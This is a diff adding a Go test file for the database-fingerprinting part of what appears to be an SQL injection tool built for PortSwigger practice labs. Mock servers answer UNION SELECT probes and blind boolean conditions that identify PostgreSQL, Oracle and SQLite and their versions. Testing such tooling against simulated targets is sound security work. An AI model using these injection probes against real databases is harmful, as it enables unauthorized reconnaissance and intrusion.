@@ -0,0 +1,272 @@
+package sqli
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+var (
+	fingerprintProbe = regexp.MustCompile(`^Gifts' UNION SELECT (.*?)(?:,NULL)?(?: FROM (\S+))?(--|-- |#)$`)
+	wrappedColumn    = regexp.MustCompile(`^'(\w+)'\|\|'(\w+)'\|\|\((.*)\)\|\|'(\w+)'\|\|'(\w+)'$`)
+	stringLiteral    = regexp.MustCompile(`^'(\w*)'$`)
+)
+
+// productLab answers the UNION SELECT probes of fingerprinting as a product would. Values
+// maps "expression|table" to what the expression selects, and expressions without a value
+// fail. String literals select themselves unless the product needs a table for them.
+type productLab struct {
+	values     map[string]string
+	needsTable bool
+	comments   []string
+	errorPage  string // Body of the page for an unbalanced quote
+}
+
+func (l productLab) start() *httptest.Server {
+	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		category := r.URL.Query().Get("category")
+		if category == `Gifts'"` {
+			fmt.Fprintf(w, "<html>%s</html>", l.errorPage)
+			return
+		}
+		value, ok := l.run(category)
+		if !ok {
+			w.WriteHeader(http.StatusInternalServerError)
+			fmt.Fprint(w, "<html><h1>Internal Server Error</h1></html>")
+			return
+		}
+		fmt.Fprintf(w, "<html><table><tr><td>%s</td></tr></table></html>", value)
+	}))
+}
+
+func (l productLab) run(category string) (string, bool) {
+	match := fingerprintProbe.FindStringSubmatch(category)
+	if match == nil || !slicesContains(l.comments, match[3]) {
+		return "", false
+	}
+	if l.needsTable && match[2] == "" {
+		return "", false
+	}
+	if match[1] == "NULL" {
+		return "", true
+	}
+	column := wrappedColumn.FindStringSubmatch(match[1])
+	if column == nil {
+		return "", false
+	}
+	value, ok := l.values[column[3]+"|"+match[2]]
+	if literal := stringLiteral.FindStringSubmatch(column[3]); literal != nil {
+		value, ok = literal[1], true
+	}
+	return column[1] + column[2] + value + column[4] + column[5], ok
+}
+
+func slicesContains(values []string, value string) bool {
+	for _, v := range values {
+		if v == value {
+			return true
+		}
+	}
+	return false
+}
+
+func TestFingerprintDB(t *testing.T) {
+	postgreSQL := productLab{
+		values: map[string]string{
+			"'qz'||'x'|":                                       "qzx",
+			"CAST(pg_backend_pid() AS text)|":                  "4242",
+			"current_setting('server_version')|":               "15.4",
+			"CAST(strpos(version(),'CockroachDB')=0 AS text)|": "true",
+			"version()|":                                       "PostgreSQL 15.4 on x86_64-pc-linux-gnu",
+		},
+		comments: []string{"--", "-- "},
+	}
+	oracle := productLab{
+		values: map[string]string{
+			"'qz'||'x'|dual":            "qzx",
+			"TO_CHAR(BITAND(5,3))|dual": "1",
+			"banner|v$version":          "Oracle Database 19c Enterprise Edition Release 19.0.0.0.0",
+		},
+		needsTable: true,
+		comments:   []string{"--", "-- "},
+	}
+	sqlite := productLab{ // Shares || with PostgreSQL, but none of its functions
+		values: map[string]string{
+			"'qz'||'x'|":          "qzx",
+			"sqlite_version()|":   "3.45.1",
+			"typeof(1)|":          "integer",
+			"hex(randomblob(1))|": "A7",
+		},
+		comments: []string{"--"},
+	}
+	withErrors := postgreSQL
+	withErrors.errorPage = "ERROR: unterminated quoted string at or near"
+
+	tests := []struct {
+		name       string
+		lab        productLab
+		dualTable  string
+		comment    string // Comment of the detected boundary
+		want       string
+		version    string
+		confidence float64
+		wantErr    bool
+	}{
+		{"postgresql", postgreSQL, "", "--", "PostgreSQL", "15.4", 1, false},
+		{"postgresql error page", withErrors, "", "--", "PostgreSQL", "15.4", 1, false},
+		{"oracle", oracle, "dual", "--", "Oracle", "19.0.0.0.0", 1, false},
+		{"sqlite", sqlite, "", "--", "SQLite", "3.45.1", 1, false},
+		{"nothing holds", productLab{comments: []string{"--"}}, "", "--", "", "", 0, true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			server := test.lab.start()
+			defer server.Close()
+			client, err := utility.NewClient("")
+			if err != nil {
+				t.Fatal(err)
+			}
+			point := NewInjectionPoint("GET", server.URL+"/filter?category=Gifts", LocationQuery, "category")
+			boundary := Boundary{Prefix: "'", Suffix: test.comment, Comment: test.comment}
+			columns := ColumnMap{
+				Columns:   []ColumnProfile{{Index: 0, String: true, Reflected: true}, {Index: 1, String: true}},
+				DualTable: test.dualTable,
+			}
+
+			fingerprint, err := FingerprintDB(client, point, boundary, newLabOracle(t), columns)
+			if test.wantErr {
+				if err == nil {
+					t.Fatalf("got %s, want an error", fingerprint)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if fingerprint.Product != test.want || fingerprint.Version != test.version || fingerprint.Confidence != test.confidence {
+				t.Errorf("got %s, want %s %s with confidence %.0f%%", fingerprint, test.want, test.version, test.confidence*100)
+			}
+		})
+	}
+}
+
+// conditionQuestioner holds exactly the conditions it lists, as a database that runs
+// them would answer, and rejects every other one.
+type conditionQuestioner map[string]bool
+
+func (q conditionQuestioner) Name() string {
+	return "conditions"
+}
+
+func (q conditionQuestioner) Ask(condition string) (bool, error) {
+	return q[condition], nil
+}
+
+func TestFingerprintByQuestions(t *testing.T) {
+	postgreSQL := conditionQuestioner{
+		"(SELECT 'qz'||'x')='qzx'":                                        true,
+		"EXISTS(SELECT CAST(pg_backend_pid() AS text))":                   true,
+		"EXISTS(SELECT current_setting('server_version'))":                true,
+		"(SELECT CAST(strpos(version(),'CockroachDB')=0 AS text))='true'": true,
+		"EXISTS(SELECT 'x')":                                              true,
+	}
+	oracle := conditionQuestioner{
+		"(SELECT 'qz'||'x' FROM dual)='qzx'":          true,
+		"(SELECT TO_CHAR(BITAND(5,3)) FROM dual)='1'": true,
+		"EXISTS(SELECT banner FROM v$version)":        true,
+	}
+	sqlite := conditionQuestioner{ // Shares || with PostgreSQL, but none of its functions
+		"(SELECT 'qz'||'x')='qzx'":          true,
+		"EXISTS(SELECT sqlite_version())":   true,
+		"(SELECT typeof(1))='integer'":      true,
+		"EXISTS(SELECT hex(randomblob(1)))": true,
+	}
+
+	tests := []struct {
+		name       string
+		questioner conditionQuestioner
+		errorPage  string
+		comment    string // Comment of the detected boundary
+		want       string
+		confidence float64
+		wantErr    bool
+	}{
+		{"postgresql", postgreSQL, "", "", "PostgreSQL", 1, false},
+		{"postgresql error page and comment", postgreSQL, "ERROR: syntax error at or near", constant.DOUBLE_DASH_COMMENT, "PostgreSQL", 1, false},
+		{"oracle", oracle, "", "", "Oracle", 1, false},
+		{"sqlite", sqlite, "", "", "SQLite", 1, false},
+		{"sqlite error page", sqlite, "unrecognized token: \"'\"", constant.DOUBLE_DASH_COMMENT, "SQLite", 1, false},
+		{"comment the product does not know", oracle, "", constant.HASH_COMMENT, "Oracle", 0.8, false},
+		{"nothing holds", conditionQuestioner{}, "", "", "", 0, true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.Write([]byte("<html>" + test.errorPage + "</html>"))
+			}))
+			defer server.Close()
+			client, err := utility.NewClient("")
+			if err != nil {
+				t.Fatal(err)
+			}
+			point := NewInjectionPoint("GET", server.URL+"/filter?category=Gifts", LocationQuery, "category")
+			boundary := Boundary{Prefix: "'", Comment: test.comment}
+
+			fingerprint, err := FingerprintByQuestions(client, point, boundary, test.questioner, constant.Products)
+			if test.wantErr {
+				if err == nil {
+					t.Fatalf("got %s, want an error", fingerprint)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if fingerprint.Product != test.want || fingerprint.Confidence != test.confidence {
+				t.Errorf("got %s, want %s with confidence %.0f%%", fingerprint, test.want, test.confidence*100)
+			}
+			for _, evidence := range fingerprint.Evidence {
+				if strings.Contains(evidence, "is a comment") || strings.Contains(evidence, "is not a comment") {
+					t.Errorf("comment check %q needs a UNION SELECT", evidence)
+				}
+			}
+		})
+	}
+}
+
+func TestKnownFingerprint(t *testing.T) {
+	tests := []struct {
+		name    string
+		want    string
+		db      string
+		wantErr bool
+	}{
+		{"mariadb", "MariaDB", constant.MYSQL.Name, false},
+		{"CockroachDB", "CockroachDB", constant.POSTGRESQL.Name, false},
+		{"SQLITE", "SQLite", constant.SQLITE.Name, false},
+		{"postgres", "", "", true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			fingerprint, err := KnownFingerprint(test.name)
+			if test.wantErr {
+				if err == nil {
+					t.Fatalf("got %s, want an error", fingerprint)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if fingerprint.Product != test.want || fingerprint.Database.Name != test.db || fingerprint.Confidence != 1 {
+				t.Errorf("got %s on %s, want %s on %s", fingerprint, fingerprint.Database.Name, test.want, test.db)
+			}
+		})
+	}
+}